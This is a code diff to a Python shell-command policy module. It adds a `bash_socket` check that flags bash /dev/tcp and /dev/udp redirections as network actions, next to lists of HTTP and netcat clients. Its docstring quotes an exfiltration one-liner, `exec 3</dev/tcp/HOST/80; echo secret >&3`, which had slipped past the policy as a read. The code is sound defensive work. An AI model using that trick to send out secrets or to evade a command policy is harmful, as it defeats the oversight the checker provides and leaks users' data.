@@ -19,7 +19,14 @@ from exomonad.policy.shell_lex import Word
 from exomonad.policy.shell_parse import resolve_path
 from exomonad.policy.shell_reads import flags, option_set, tree_root
 
-__all__ = ["HTTP_CLIENTS", "REMOTE_CLIENTS", "host_of", "http_client", "remote_client"]
+__all__ = [
+    "HTTP_CLIENTS",
+    "REMOTE_CLIENTS",
+    "bash_socket",
+    "host_of",
+    "http_client",
+    "remote_client",
+]
 
 #: The programs each handler reads.
 HTTP_CLIENTS = ("curl", "wget", "http", "https", "xh", "aria2c")
@@ -121,3 +128,21 @@ def remote_client(name: str, args: list[Word], cwd: str | None) -> list[Action] 
     if name in ("nc", "ncat") and flags(opts, *_NC_SOCKET):  # the socket is the host
         return [*_sockets(positionals[:1], cwd), Network(None)]
     return _hosts(positionals[:1]) or [Network(None)]
+
+
+def bash_socket(target: Word, cwd: str | None) -> Network | None:
+    """The connection a redirection to bash's ``/dev/tcp/HOST/PORT`` or ``/dev/udp/...``
+    opens (either direction: the socket reads and writes whatever ``<`` says; found
+    probing, ``exec 3</dev/tcp/HOST/80; echo secret >&3`` sent the secret, allowed as a
+    read). Judged where the path lands too (``cd /dev && cat <tcp/h/80``: stricter than
+    bash, which reads only the literal name), any expansion in the host unknown.
+
+    >>> bash_socket(Word("/dev/tcp/Example.com/80"), "/w"), bash_socket(Word("x"), "/w")
+    (Network(host='example.com'), None)
+    """
+    path = target.text if target.dynamic else resolve_path(cwd, target) or target.text
+    for kind in ("/dev/tcp/", "/dev/udp/"):
+        if path.startswith(kind):
+            host = path[len(kind) :].split("/", 1)[0]
+            return Network(None if target.dynamic and "$" in host else host.lower() or None)
+    return None
